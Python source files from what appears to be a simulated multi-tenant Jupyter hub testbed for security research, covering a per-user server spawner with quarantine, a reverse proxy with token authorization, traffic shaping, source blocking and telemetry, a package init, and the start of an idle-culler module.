            def collect() -> None:
                spawned_c.set(self.total_spawned)
                stopped_c.set(self.total_stopped)
                active_g.set(len(self.active))
                quarantined_g.set(len(self.quarantined))

            reg.register_collector(collect)

    # -- limits ---------------------------------------------------------------
    def _check_limits(self, now: float) -> None:
        if self.config.max_servers > 0 and len(self.active) >= self.config.max_servers:
            raise SpawnError(
                f"server limit reached ({self.config.max_servers} running)", status=403)
        rate = self.config.spawn_rate_per_minute
        if rate > 0:
            cutoff = now - 60.0
            while self._spawn_times and self._spawn_times[0] < cutoff:
                self._spawn_times.popleft()
            if len(self._spawn_times) >= rate:
                raise SpawnError(
                    f"spawn rate limit reached ({rate}/min)", status=429)

    # -- lifecycle ------------------------------------------------------------
    def spawn(self, user: HubUser) -> SpawnedServer:
        """Start ``user``'s server; idempotent if already running."""
        existing = self.active.get(user.name)
        if existing is not None:
            return existing
        if user.name in self.quarantined:
            raise SpawnError(f"user {user.name!r} is quarantined", status=403)
        now = self.network.loop.clock.now()
        self._check_limits(now)
        node = self.nodes[self._next_node % len(self.nodes)]
        self._next_node += 1
        port = self._next_port[node.name]
        self._next_port[node.name] = port + 1
        cfg = replace(
            self.base_config,
            ip="0.0.0.0",
            port=port,
            token=user.token,
            server_name=f"jupyter-{user.name}",
        )
        server = JupyterServer(cfg, self.network, node)
        gateway = ServerGateway(server)
        if self.seed_tenant_files:
            # Every tenant home gets the small dataset the benign cell
            # templates read, so fresh tenants behave like real accounts.
            rows = "\n".join(f"{j},{(j * 37) % 101},{(j * 17) % 13}" for j in range(40))
            server.fs.write(f"{cfg.root_dir}/data/measurements_0.csv",
                            ("a,b,c\n" + rows).encode())
        spawned = SpawnedServer(username=user.name, server=server, gateway=gateway,
                                host=node, port=port, started_at=now)
        self.active[user.name] = spawned
        self.total_spawned += 1
        self._spawn_times.append(now)
        if self._tele_on:
            self.telemetry.timeline.record(
                now, "spawner.spawn", source=user.name,
                node=node.name, port=port)
        for hook in self.on_spawn:
            hook(spawned)
        return spawned

    def stop(self, username: str) -> bool:
        """Stop a user's server: shut kernels down, release the port."""
        spawned = self.active.pop(username, None)
        if spawned is None:
            return False
        for kid in list(spawned.server.kernels):
            spawned.server.shutdown_kernel(kid)
        spawned.host.unlisten(spawned.port)
        self.total_stopped += 1
        if self._tele_on:
            self.telemetry.timeline.record(
                self.network.loop.clock.now(), "spawner.stop", source=username)
        for hook in self.on_stop:
            hook(username)
        return True

    def quarantine(self, username: str) -> bool:
        """Containment: stop the tenant's server and refuse respawns
        until :meth:`release`.  Returns True if a server was stopped."""
        self.quarantined.add(username)
        if self._tele_on:
            self.telemetry.timeline.record(
                self.network.loop.clock.now(), "spawner.quarantine",
                source=username)
        return self.stop(username)

    def release(self, username: str) -> bool:
        """Lift a quarantine; the tenant may spawn again."""
        was = username in self.quarantined
        self.quarantined.discard(username)
        if was and self._tele_on:
            self.telemetry.timeline.record(
                self.network.loop.clock.now(), "spawner.release",
                source=username)
        return was

    def stop_all(self) -> int:
        return sum(1 for name in list(self.active) if self.stop(name))

    def running(self) -> List[str]:
        return sorted(self.active)
