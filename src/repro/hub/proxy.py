"""The hub's reverse proxy: one front door, many per-user backends.

Modelled on configurable-http-proxy/JupyterHub (and the SDSC Satellite
design the related-work survey describes): clients speak to a single
``hub:8000`` host; the proxy authenticates at the edge, consults its
routing table, rewrites ``/user/<name>/...`` to the backend's native
paths, and relays bytes.  WebSocket upgrades switch the relay into raw
bidirectional piping, so kernel channels flow through unchanged.

Every hop is on the tapped simnet, which means the monitor at the proxy
tap sees both legs (client↔proxy and proxy↔backend) of every request —
the fleet-wide vantage point the paper's NCSA deployment argues for.

Routing state lives in :class:`RouteEntry` records with per-route
counters (requests, upgrades, bytes, last activity); the idle culler
reads ``last_activity`` to reclaim abandoned servers.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, Dict, List, Optional, Tuple

from repro.hub.spawner import SpawnedServer, Spawner, SpawnError
from repro.hub.users import HubConfig, HubUser, HubUserDirectory, HubUserError
from repro.simnet import Host, Network, TcpConnection
from repro.traffic.padding import PaddingPolicy, ResponsePadder
from repro.util.errors import ProtocolError
from repro.util.rng import DeterministicRNG
from repro.wire.buffer import ByteCursor
from repro.wire.http import (
    HEADER_END,
    HttpRequest,
    HttpResponse,
    parse_request_from,
    parse_response_from,
)

if TYPE_CHECKING:  # pragma: no cover
    from repro.telemetry import Telemetry

HUB_VERSION = "1.0"

#: Fixed buckets for ``proxy_request_seconds``: spans the campus RTT
#: floor (~1 ms) through the geo links (~160 ms) up to the 1 s request
#: window.  Fixed so dashboards comparing worlds line up.
PROXY_LATENCY_BUCKETS = (0.001, 0.0025, 0.005, 0.01, 0.025, 0.05,
                         0.1, 0.25, 0.5, 1.0)

#: Fixed buckets for ``proxy_response_delay_seconds`` (shaping delay):
#: spans 0 (unshaped worlds) through the padding jitter ceiling.  0.25
#: is the bound the shipped shaping-delay SLO reads, so it must stay a
#: declared bucket (latency SLOs are exact only at bucket bounds).
RESPONSE_DELAY_BUCKETS = (0.01, 0.05, 0.1, 0.25, 0.5, 0.9)

#: Profiler frame for the respond hot path (module-level constant so
#: the hook never builds a tuple per call).
_PROF_RESPOND = ("hot", "hub.proxy", "_ProxyChannel.respond")


def _json_response(status: int, payload: Any) -> HttpResponse:
    return HttpResponse(
        status,
        headers={"Content-Type": "application/json"},
        body=json.dumps(payload, sort_keys=True, default=str).encode(),
    )


def _extract_token(request: HttpRequest) -> str:
    auth = request.header("authorization")
    if auth.lower().startswith("token "):
        return auth[6:].strip()
    return (request.query.get("token") or [""])[0]


@dataclass
class RouteEntry:
    """One ``/user/<name>`` → backend mapping with traffic counters."""

    username: str
    host: Host
    port: int
    created: float
    requests: int = 0
    ws_upgrades: int = 0
    bytes_in: int = 0
    bytes_out: int = 0
    last_activity: float = 0.0

    def to_dict(self) -> Dict[str, Any]:
        return {
            "prefix": f"/user/{self.username}",
            "target": f"{self.host.ip}:{self.port}",
            "requests": self.requests,
            "ws_upgrades": self.ws_upgrades,
            "bytes_in": self.bytes_in,
            "bytes_out": self.bytes_out,
            "last_activity": self.last_activity,
        }


@dataclass
class ProxyStats:
    """Hub-wide counters the scaling benchmark reports.

    Byte counts are cumulative across the proxy's lifetime — unlike the
    per-route counters, they survive a route being culled.

    ``denied_total`` used to be a stored field incremented on *both* the
    blocked-source and auth-failure paths, which made the two causes
    indistinguishable; it is now derived from the two distinct counters
    (the registry exports them as ``proxy_denied_total{reason=...}``).

    Latency deliberately lives elsewhere: per-route response-latency
    distributions are histograms, not counters, so they export directly
    as ``proxy_request_seconds{proxy=,route=}`` (fixed buckets, zero
    cost when telemetry is off) instead of riding this snapshot struct.
    """

    requests_total: int = 0
    routed_total: int = 0
    hub_requests: int = 0
    auth_denied_total: int = 0
    not_found_total: int = 0
    blocked_total: int = 0
    upstream_errors: int = 0
    buffer_overflows: int = 0
    bytes_in: int = 0
    bytes_out: int = 0

    @property
    def denied_total(self) -> int:
        """Legacy aggregate: every 403 the proxy issued, whatever the cause."""
        return self.auth_denied_total + self.blocked_total


class _ProxyChannel:
    """State machine for one client connection to the proxy.

    HTTP mode parses requests and relays them one at a time (responses
    stay ordered even if the client pipelines); after a successful
    WebSocket upgrade the channel degrades to a transparent byte pipe.
    """

    def __init__(self, proxy: "ReverseProxy", conn: TcpConnection):
        self.proxy = proxy
        self.conn = conn
        self.buffer = ByteCursor()
        self.piping = False
        self.route: Optional[RouteEntry] = None
        self.backend: Optional[TcpConnection] = None
        self._backend_buffer = ByteCursor()
        #: When the in-flight backend relay started (latency histogram).
        self._relay_started = 0.0
        #: Monotonic floor for jittered sends on this channel: a later
        #: response never overtakes an earlier one on the same connection.
        self._next_send_at = 0.0
        #: ordered work while a backend relay is in flight: either a
        #: queued relay ("relay", request, route) or an already-computed
        #: local response ("respond", response).
        self._pending: List[Tuple] = []
        self._busy = False
        conn.on_data_server = self.feed
        conn.on_close_server = self.on_client_close

    # -- client side ----------------------------------------------------------
    def feed(self, data: bytes) -> None:
        if not self.conn.open:
            return  # segments still in flight after we closed on the peer
        if self.piping:
            self.proxy.stats.bytes_in += len(data)
            if self.route is not None:
                self.route.bytes_in += len(data)
                self.route.last_activity = self.proxy.clock.now()
            if self.backend is not None and self.backend.open:
                self.backend.send_to_server(data)
            return
        self.buffer.append(data)
        while True:
            try:
                request = parse_request_from(self.buffer)
            except ProtocolError as e:
                self.proxy.protocol_errors.append(str(e))
                self.respond(_json_response(400, {"message": f"bad request: {e}"}))
                self.conn.close(by_client=False)
                return
            if request is None:
                if self._overflowed(self.buffer):
                    # A request head or body that never completes: reject
                    # it instead of buffering without bound.  431 when the
                    # header block itself never ends, 413 when headers are
                    # fine but the declared body exceeds the cap.
                    status = 413 if self.buffer.find(HEADER_END) >= 0 else 431
                    self.respond(_json_response(status, {
                        "message": "request exceeds proxy buffer limit",
                        "limit": self.proxy.buffer_limit,
                    }))
                    self.conn.close(by_client=False)
                return
            self.proxy.handle_request(self, request)
            if self.piping:
                # Frames the client sent right behind the handshake.
                if self.buffer:
                    self.feed(self.buffer.take_all())
                return

    def _overflowed(self, cursor: ByteCursor) -> bool:
        limit = self.proxy.buffer_limit
        if limit <= 0 or len(cursor) <= limit:
            return False
        self.proxy.stats.buffer_overflows += 1
        return True

    def respond(self, response: HttpResponse) -> None:
        """Write a response (bypasses request ordering; internal use).

        With a :class:`PaddingPolicy` compiled in, the body is padded to
        its size bucket and the send is delayed by a bounded jitter draw
        — except 101s, which head straight into byte piping (shaping
        would desync the upgrade from the frames behind it; kernel
        channels keep their timing, a declared model limit).
        """
        if not self.conn.open:
            return
        proxy = self.proxy
        padder = proxy.padder
        if padder is None or response.status == 101:
            raw = response.encode()
            if proxy._tele_on:
                # Unshaped sends leave immediately: a 0-delay sample
                # keeps the shaping-delay family honest about them.
                proxy._observe_delay(0.0)
            if proxy._prof is not None:
                proxy._prof.account(_PROF_RESPOND, len(raw))
            self.conn.send_to_client(raw)
            return
        prof = proxy._prof
        wall_t0 = prof.wall_probe() if prof is not None else 0.0
        raw = padder.pad(response).encode()
        now = proxy.clock.now()
        send_at = max(now + padder.jitter(), self._next_send_at)
        self._next_send_at = send_at
        proxy._observe_delay(send_at - now)
        if prof is not None:
            prof.account(_PROF_RESPOND, len(raw), sim=send_at - now,
                         wall_t0=wall_t0)
        if send_at <= now:
            self.conn.send_to_client(raw)
            return
        conn = self.conn

        def _send() -> None:
            if conn.open:
                conn.send_to_client(raw)

        self.proxy.network.loop.call_at(send_at, _send)

    def deliver(self, response: HttpResponse) -> None:
        """Send a locally-computed response in request order: if a
        backend relay is in flight, queue behind it so a pipelining
        client never sees responses out of order."""
        if self._busy:
            self._pending.append(("respond", response))
            return
        self.respond(response)

    def on_client_close(self) -> None:
        if self.backend is not None and self.backend.open:
            self.backend.close()
        try:
            self.proxy.channels.remove(self)
        except ValueError:
            pass

    # -- backend side ---------------------------------------------------------
    def relay(self, route: RouteEntry, request: HttpRequest) -> None:
        """Forward one rewritten request to ``route``'s backend."""
        if self._busy:
            self._pending.append(("relay", request, route))
            return
        self._start_backend(route, request)

    def _start_backend(self, route: RouteEntry, request: HttpRequest) -> None:
        try:
            backend = self.proxy.host.connect(route.host, route.port)
        except Exception as e:
            self.proxy.stats.upstream_errors += 1
            self.respond(_json_response(502, {"message": f"bad gateway: {e}"}))
            return
        self._busy = True
        self.backend = backend
        self.route = route
        self._relay_started = self.proxy.clock.now()
        self._backend_buffer.clear()
        upgrade = request.is_websocket_upgrade()
        backend.on_data_client = lambda data: self._on_backend_data(data, upgrade)
        backend.on_close_client = self._on_backend_close
        raw = request.encode()
        route.requests += 1
        route.bytes_in += len(raw)
        self.proxy.stats.bytes_in += len(raw)
        route.last_activity = self.proxy.clock.now()
        backend.send_to_server(raw)

    def _on_backend_data(self, data: bytes, upgrade: bool) -> None:
        route = self.route
        if self.piping:
            self.proxy.stats.bytes_out += len(data)
            if route is not None:
                route.bytes_out += len(data)
                route.last_activity = self.proxy.clock.now()
            if self.conn.open:
                self.conn.send_to_client(data)
            return
        self._backend_buffer.append(data)
        try:
            resp = parse_response_from(self._backend_buffer)
        except ProtocolError as e:
            self.proxy.protocol_errors.append(str(e))
            self._finish_backend()
            self.respond(_json_response(502, {"message": "bad upstream response"}))
            return
        if resp is None:
            if self._overflowed(self._backend_buffer):
                # A withholding backend (response that never completes)
                # surfaces as an upstream error, not unbounded growth.
                self.proxy.stats.upstream_errors += 1
                self._finish_backend()
                self.respond(_json_response(502, {
                    "message": "upstream response exceeds proxy buffer limit",
                    "limit": self.proxy.buffer_limit,
                }))
            return
        rest = self._backend_buffer.take_all() if resp.status == 101 else b""
        self._backend_buffer.clear()
        self.proxy.stats.bytes_out += len(resp.body)
        if route is not None:
            route.bytes_out += len(resp.body)
            route.last_activity = self.proxy.clock.now()
            self.proxy._observe_latency(
                route.username, self.proxy.clock.now() - self._relay_started)
        self.respond(resp)
        if resp.status == 101 and upgrade:
            self.piping = True
            if route is not None:
                route.ws_upgrades += 1
            if rest and self.conn.open:
                self.conn.send_to_client(rest)
            # Frames the client sent before the 101 arrived sat in the
            # HTTP buffer (incomplete as a request); pipe them now.
            if self.buffer:
                self.feed(self.buffer.take_all())
            return
        self._finish_backend()

    def _on_backend_close(self) -> None:
        if self.piping and self.conn.open:
            self.conn.close(by_client=False)
        self.backend = None

    def _finish_backend(self) -> None:
        if self.backend is not None and self.backend.open:
            self.backend.close()
        self.backend = None
        self._busy = False
        while self._pending:
            item = self._pending.pop(0)
            if item[0] == "respond":
                self.respond(item[1])
                continue
            _, request, route = item
            self._start_backend(route, request)
            if self._busy:
                return  # relay in flight; drain resumes on its completion


class ReverseProxy:
    """Routes ``/hub/...`` to the hub API and ``/user/<name>/...`` to
    per-user backends."""

    def __init__(self, network: Network, host: Host, users: HubUserDirectory,
                 config: HubConfig, *, spawner: Optional[Spawner] = None,
                 telemetry: Optional["Telemetry"] = None,
                 padding: Optional[PaddingPolicy] = None,
                 rng: Optional[DeterministicRNG] = None):
        from repro.telemetry import Telemetry

        self.network = network
        self.host = host
        self.users = users
        self.config = config
        self.spawner = spawner
        self.clock = network.loop.clock
        self.routes: Dict[str, RouteEntry] = {}
        #: Source IPs denied service (containment: every request answers
        #: 403 and established channels are severed on block).
        self.blocked_sources: set = set()
        #: Per-connection parse-buffer cap (bytes); 0 disables the cap.
        self.buffer_limit = config.proxy_buffer_limit
        self.stats = ProxyStats()
        self.channels: List[_ProxyChannel] = []
        self.protocol_errors: List[str] = []
        #: Traffic shaping (size-bucket padding + jitter): compiled in
        #: from WorldSpec.padding.  The jitter stream is a seeded-RNG
        #: child, never wall clock — worlds stay byte-reproducible.
        self.padder: Optional[ResponsePadder] = None
        if padding is not None and padding.enabled:
            self.padder = ResponsePadder(
                padding, rng if rng is not None
                else DeterministicRNG(0).child(f"padding:{host.name}"))
        #: ``proxy_request_seconds`` children, cached per route label.
        self._lat_children: Dict[str, Any] = {}
        self._lat_hist: Any = None
        self._delay_hist: Any = None
        self._delay_child: Any = None
        self.telemetry = telemetry if telemetry is not None else Telemetry.disabled()
        #: Cached enabled flag: the request path tests one boolean, not
        #: a chain of attribute loads, when telemetry is off.
        self._tele_on = self.telemetry.enabled
        #: Profiler hook target, or None — the respond hot path pays one
        #: pointer test when profiling is off.
        self._prof = self.telemetry.profiler if self._tele_on else None
        if self._tele_on:
            self._register_metrics()
        host.listen(config.port, self._accept,
                    bind_ip="127.0.0.1" if config.ip == "127.0.0.1" else "0.0.0.0")

    def _register_metrics(self) -> None:
        """Surface :class:`ProxyStats` *through* the shared registry: a
        scrape-time collector copies the live counters, so the request
        path never touches a registry instrument."""
        reg = self.telemetry.registry
        name = self.host.name
        counters = {
            "requests_total": reg.counter(
                "proxy_requests_total", "Requests accepted at the front door",
                labels=("proxy",)).labels(proxy=name),
            "routed_total": reg.counter(
                "proxy_routed_total", "Requests relayed to tenant backends",
                labels=("proxy",)).labels(proxy=name),
            "hub_requests": reg.counter(
                "proxy_hub_requests_total", "Requests answered by the hub API",
                labels=("proxy",)).labels(proxy=name),
            "not_found_total": reg.counter(
                "proxy_not_found_total", "Requests with no matching route",
                labels=("proxy",)).labels(proxy=name),
            "upstream_errors": reg.counter(
                "proxy_upstream_errors_total", "Backend relays that failed",
                labels=("proxy",)).labels(proxy=name),
            "buffer_overflows": reg.counter(
                "proxy_buffer_overflows_total", "Parse buffers over the cap",
                labels=("proxy",)).labels(proxy=name),
            "bytes_in": reg.counter(
                "proxy_bytes_in_total", "Bytes received from clients",
                labels=("proxy",)).labels(proxy=name),
            "bytes_out": reg.counter(
                "proxy_bytes_out_total", "Bytes sent to clients",
                labels=("proxy",)).labels(proxy=name),
        }
        denied = reg.counter(
            "proxy_denied_total",
            "403s issued at the edge, split by cause",
            labels=("proxy", "reason"))
        denied_auth = denied.labels(proxy=name, reason="auth")
        denied_blocked = denied.labels(proxy=name, reason="blocked")
        routes_g = reg.gauge("proxy_routes", "Live routing-table entries",
                             labels=("proxy",)).labels(proxy=name)
        blocked_g = reg.gauge("proxy_blocked_sources",
                              "Source IPs currently denied service",
                              labels=("proxy",)).labels(proxy=name)

        def collect() -> None:
            s = self.stats
            for field_name, inst in counters.items():
                inst.set(getattr(s, field_name))
            denied_auth.set(s.auth_denied_total)
            denied_blocked.set(s.blocked_total)
            routes_g.set(len(self.routes))
            blocked_g.set(len(self.blocked_sources))

        reg.register_collector(collect)
        # Latency is the one family that cannot ride the scrape-time
        # collector (histograms need every observation, not a snapshot);
        # observations go direct, gated on the same cached boolean, so
        # the cost with telemetry off stays one ``if``.
        self._lat_hist = reg.histogram(
            "proxy_request_seconds",
            "Response latency by route: backend service time for relayed "
            "requests, ~0 for locally answered ones (route=hub/edge).  "
            "Shaping delay is excluded; the padder reports it separately.",
            labels=("proxy", "route"), buckets=PROXY_LATENCY_BUCKETS)
        self._delay_hist = reg.histogram(
            "proxy_response_delay_seconds",
            "Seconds between a response being ready and its first byte "
            "leaving the proxy: the traffic-shaping jitter cost, 0 for "
            "unshaped sends.  The shaping-delay SLO reads the 0.25 bound.",
            labels=("proxy",), buckets=RESPONSE_DELAY_BUCKETS)

    def _observe_delay(self, seconds: float) -> None:
        if not self._tele_on:
            return
        child = self._delay_child
        if child is None:
            child = self._delay_child = self._delay_hist.labels(
                proxy=self.host.name)
        child.observe(seconds)

    def _observe_latency(self, route: str, seconds: float) -> None:
        if not self._tele_on:
            return
        child = self._lat_children.get(route)
        if child is None:
            child = self._lat_children[route] = self._lat_hist.labels(
                proxy=self.host.name, route=route)
        child.observe(seconds)

    def _accept(self, conn: TcpConnection) -> None:
        self.channels.append(_ProxyChannel(self, conn))

    # -- routing table --------------------------------------------------------
    def add_route(self, spawned: SpawnedServer) -> RouteEntry:
        return self.add_static_route(spawned.username, spawned.host, spawned.port)

    def add_static_route(self, username: str, host: Host, port: int) -> RouteEntry:
        """Route ``/user/<username>`` to a backend the spawner does not
        manage (e.g. a decoy-tenant honeypot server)."""
        entry = RouteEntry(username=username, host=host, port=port,
                           created=self.clock.now(),
                           last_activity=self.clock.now())
        self.routes[username] = entry
        return entry

    def remove_route(self, username: str) -> bool:
        return self.routes.pop(username, None) is not None

    # -- containment (the SOC's edge enforcement point) ------------------------
    def block_source(self, ip: str) -> bool:
        """Deny ``ip`` all service: future requests (including WebSocket
        upgrades) answer 403, and channels it already holds — HTTP or
        piped WebSocket relays — are closed now.  Returns False if the
        source was already blocked."""
        if ip in self.blocked_sources:
            return False
        self.blocked_sources.add(ip)
        for channel in list(self.channels):
            if channel.conn.client.ip == ip and channel.conn.open:
                channel.conn.close(by_client=False)
        if self._tele_on:
            self.telemetry.timeline.record(
                self.clock.now(), "proxy.block_source", source=ip,
                proxy=self.host.name)
        return True

    def unblock_source(self, ip: str) -> bool:
        """Restore service for ``ip``; returns False if it was not blocked."""
        if ip not in self.blocked_sources:
            return False
        self.blocked_sources.discard(ip)
        if self._tele_on:
            self.telemetry.timeline.record(
                self.clock.now(), "proxy.unblock_source", source=ip,
                proxy=self.host.name)
        return True

    def sever_tenant_channels(self, username: str) -> int:
        """Close every channel currently relaying to ``username``'s
        backend (quarantine support: the route is gone, but established
        WebSocket pipes would otherwise keep flowing)."""
        severed = 0
        for channel in list(self.channels):
            route = channel.route
            if route is not None and route.username == username:
                if channel.conn.open:
                    channel.conn.close(by_client=False)
                    severed += 1
        return severed

    # -- authorization --------------------------------------------------------
    def _identify(self, request: HttpRequest) -> Tuple[Optional[HubUser], bool]:
        return self.users.authenticate(_extract_token(request))

    def _authorize_user_path(self, request: HttpRequest, target: str) -> Tuple[bool, str]:
        """May the bearer of this request reach ``/user/<target>``?"""
        if not self.config.proxy_auth_required:
            return True, "proxy auth disabled"
        user, is_hub = self._identify(request)
        if is_hub:
            return True, "hub token"
        if user is None:
            return False, "invalid or missing token"
        if user.name == target or user.admin:
            return True, user.name
        return False, f"user {user.name!r} may not access /user/{target}"

    def _is_hub_admin(self, request: HttpRequest) -> bool:
        if not self.config.proxy_auth_required:
            return True
        user, is_hub = self._identify(request)
        return is_hub or (user is not None and user.admin)

    # -- request handling -----------------------------------------------------
    def handle_request(self, channel: _ProxyChannel, request: HttpRequest) -> None:
        self.stats.requests_total += 1
        source = channel.conn.client.ip
        span = None
        if self._tele_on:
            span = self.telemetry.tracer.start_span(
                "proxy.request", ts=self.clock.now(), source=source,
                method=request.method, path=request.path, proxy=self.host.name)
        if source in self.blocked_sources:
            self.stats.blocked_total += 1
            if span is not None:
                span.finish(self.clock.now(), status="blocked")
                self.telemetry.timeline.record(
                    self.clock.now(), "proxy.blocked", source=source,
                    ctx=span.ctx, path=request.path, proxy=self.host.name)
            self._observe_latency("edge", 0.0)
            channel.deliver(_json_response(403, {
                "message": f"Forbidden: source {source} is blocked by security policy",
            }))
            return
        path = request.path
        if path == "/hub" or path.startswith("/hub/"):
            self.stats.hub_requests += 1
            if span is not None:
                span.finish(self.clock.now(), status="hub")
            self._observe_latency("hub", 0.0)
            channel.deliver(self._hub_api(request))
            return
        if path.startswith("/user/"):
            self._route_user_path(channel, request, span)
            return
        self.stats.not_found_total += 1
        if span is not None:
            span.finish(self.clock.now(), status="not_found")
        self._observe_latency("edge", 0.0)
        channel.deliver(_json_response(404, {
            "message": f"no route for {path}",
            "hint": "tenant servers live under /user/<name>/, the hub API under /hub/api",
        }))

    def _route_user_path(self, channel: _ProxyChannel, request: HttpRequest,
                         span=None) -> None:
        parts = request.path.split("/")
        target = parts[2] if len(parts) > 2 else ""
        ok, why = self._authorize_user_path(request, target)
        if not ok:
            self.stats.auth_denied_total += 1
            if span is not None:
                span.finish(self.clock.now(), status="denied")
                self.telemetry.timeline.record(
                    self.clock.now(), "proxy.denied",
                    source=channel.conn.client.ip, ctx=span.ctx,
                    path=request.path, why=why, proxy=self.host.name)
            self._observe_latency("edge", 0.0)
            channel.deliver(_json_response(403, {"message": f"Forbidden: {why}"}))
            return
        route = self.routes.get(target)
        if route is None:
            status, message = (
                (503, f"server for {target!r} is not running")
                if self.users.get(target) is not None
                else (404, f"no such user {target!r}")
            )
            self.stats.not_found_total += 1
            if span is not None:
                span.finish(self.clock.now(), status="not_found")
            self._observe_latency("edge", 0.0)
            channel.deliver(_json_response(status, {
                "message": message,
                "hint": f"POST /hub/api/users/{target}/server to start it",
            }))
            return
        prefix = f"/user/{target}"
        rewritten = request.target[len(prefix):]
        if not rewritten.startswith("/"):
            rewritten = "/" + rewritten
        # The hub owns its backends: once the edge authorizes a request,
        # the proxy swaps in the tenant's own credential (real hubs pass
        # an internal auth header the single-user server trusts).
        headers = {k: v for k, v in request.headers.items()
                   if k.lower() not in ("authorization", "x-forwarded-for")}
        target_user = self.users.get(target)
        if target_user is not None:
            headers["Authorization"] = f"token {target_user.token}"
        # Backends otherwise see every request arriving from the proxy
        # host; decoy-tenant honeypots attribute interactions with this.
        headers["X-Forwarded-For"] = channel.conn.client.ip
        if span is not None:
            # Stamp the backend leg with a request id bound to this span:
            # the monitor on the tap reads the header back and parents
            # detector hits to the exact front-door request (the causal
            # join in `repro obs --incident`).
            rid = self.telemetry.request_ids.next()
            headers["X-Request-Id"] = rid
            self.telemetry.tracer.bind(rid, span.ctx)
            span.set_attrs(tenant=target, request_id=rid)
            span.finish(self.clock.now(), status="routed")
            self.telemetry.timeline.record(
                self.clock.now(), "proxy.routed",
                source=channel.conn.client.ip, ctx=span.ctx,
                tenant=target, path=request.path, proxy=self.host.name)
        self.stats.routed_total += 1
        channel.relay(route, HttpRequest(request.method, rewritten,
                                         headers, request.body, request.version))

    # -- hub API --------------------------------------------------------------
    def _hub_api(self, request: HttpRequest) -> HttpResponse:
        path, method = request.path, request.method
        if path in ("/hub/api", "/hub/api/") and method == "GET":
            return _json_response(200, {
                "version": HUB_VERSION,
                "hub": self.config.hub_name,
                "users": len(self.users),
                "servers_running": len(self.routes),
            })
        if path == "/hub/signup" and method == "POST":
            return self._handle_signup(request)
        if path == "/hub/api/users" and method == "GET":
            if not self._is_hub_admin(request):
                self.stats.auth_denied_total += 1
                return _json_response(403, {"message": "admin access required"})
            return _json_response(200, [
                {"name": u.name, "admin": u.admin,
                 "server_running": u.name in self.routes}
                for u in sorted(self.users.users.values(), key=lambda u: u.name)
            ])
        if path == "/hub/api/routes" and method == "GET":
            if not self._is_hub_admin(request):
                self.stats.auth_denied_total += 1
                return _json_response(403, {"message": "admin access required"})
            return _json_response(200, {
                f"/user/{name}": r.to_dict() for name, r in sorted(self.routes.items())
            })
        if path.startswith("/hub/api/users/") and path.endswith("/server"):
            name = path[len("/hub/api/users/"):-len("/server")].strip("/")
            return self._handle_server_lifecycle(request, name, method)
        return _json_response(404, {"message": f"no hub handler for {method} {path}"})

    def _handle_signup(self, request: HttpRequest) -> HttpResponse:
        try:
            body = json.loads(request.body or b"{}")
            name = str(body.get("name", ""))
        except json.JSONDecodeError:
            return _json_response(400, {"message": "invalid JSON body"})
        try:
            user = self.users.signup(name)
        except HubUserError as e:
            if e.status == 403:
                self.stats.auth_denied_total += 1
            return _json_response(e.status, {"message": str(e)})
        return _json_response(201, {"name": user.name, "token": user.token})

    def _handle_server_lifecycle(self, request: HttpRequest, name: str,
                                 method: str) -> HttpResponse:
        user = self.users.get(name)
        if user is None:
            return _json_response(404, {"message": f"no such user {name!r}"})
        ok, why = self._authorize_user_path(request, name)
        if not ok:
            self.stats.auth_denied_total += 1
            return _json_response(403, {"message": f"Forbidden: {why}"})
        if method == "POST":
            if self.spawner is None:
                return _json_response(501, {"message": "no spawner configured"})
            try:
                spawned = self.spawner.spawn(user)
            except SpawnError as e:
                return _json_response(e.status, {"message": str(e)})
            return _json_response(201, {"name": name, "url": spawned.url_prefix + "/"})
        if method == "DELETE":
            if self.spawner is None:
                return _json_response(501, {"message": "no spawner configured"})
            stopped = self.spawner.stop(name)
            return _json_response(204 if stopped else 404,
                                  {} if stopped else {"message": "server not running"})
        return _json_response(405, {"message": f"{method} not allowed"})

    # -- reporting ------------------------------------------------------------
    def summary(self) -> Dict[str, Any]:
        shaping = self.padder.summary() if self.padder is not None else None
        return {
            "shaping": shaping,
            "routes": len(self.routes),
            "requests_total": self.stats.requests_total,
            "routed_total": self.stats.routed_total,
            "hub_requests": self.stats.hub_requests,
            "denied_total": self.stats.denied_total,
            "auth_denied_total": self.stats.auth_denied_total,
            "not_found_total": self.stats.not_found_total,
            "blocked_total": self.stats.blocked_total,
            "blocked_sources": sorted(self.blocked_sources),
            "upstream_errors": self.stats.upstream_errors,
            "buffer_overflows": self.stats.buffer_overflows,
            "bytes_in": self.stats.bytes_in,
            "bytes_out": self.stats.bytes_out,
        }
