"""Multi-tenant hub: reverse proxy + spawner + culler + hub identity.

The paper's NCSA deployment — like most campus/HPC Jupyter offerings —
is not one server but a *hub*: a reverse proxy front door that launches
and routes to per-user servers.  This package reproduces that layer on
the simnet stack so fleet-scale scenarios (cross-tenant pivots,
hub-level misconfiguration, proxy-vantage monitoring, hundreds of
tenants behind one tap) compose with the existing attack taxonomy.

- :mod:`repro.hub.users`   — :class:`HubConfig` (the misconfigurable
  knobs) and :class:`HubUserDirectory` (accounts + tokens).
- :mod:`repro.hub.spawner` — lazy per-user server spawning across fleet
  nodes with max-server and spawn-rate limits.
- :mod:`repro.hub.proxy`   — the ``/user/<name>`` reverse proxy with
  WebSocket piping, per-route counters, and the ``/hub/api`` surface.
- :mod:`repro.hub.culler`  — event-loop-driven idle-server reclamation.
- :mod:`repro.hub.scenario` — :class:`HubScenario`, a drop-in
  multi-tenant replacement for the standard testbed.
"""

from repro.hub.culler import CullRecord, IdleCuller
from repro.hub.proxy import ProxyStats, ReverseProxy, RouteEntry
from repro.hub.scenario import HubScenario, build_hub_scenario
from repro.hub.spawner import SpawnedServer, Spawner, SpawnError
from repro.hub.users import (
    HubConfig,
    HubUser,
    HubUserDirectory,
    HubUserError,
    insecure_hub_config,
)

__all__ = [
    "HubConfig",
    "HubUser",
    "HubUserDirectory",
    "HubUserError",
    "insecure_hub_config",
    "Spawner",
    "SpawnedServer",
    "SpawnError",
    "ReverseProxy",
    "RouteEntry",
    "ProxyStats",
    "IdleCuller",
    "CullRecord",
    "HubScenario",
    "build_hub_scenario",
]
