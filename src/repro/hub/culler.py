"""Idle-server culling, driven by the simulation's event loop.

JupyterHub deployments run ``jupyterhub-idle-culler`` for two reasons
the paper's misconfiguration discussion makes security-relevant: an
abandoned server is wasted capacity *and* a standing attack surface (a
leaked token stays useful for as long as the server it opens is up).
``culling_enabled=False`` is therefore a hub-level misconfiguration
(HUB-004), and the scaling benchmark verifies the culler actually
reclaims servers.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Sequence

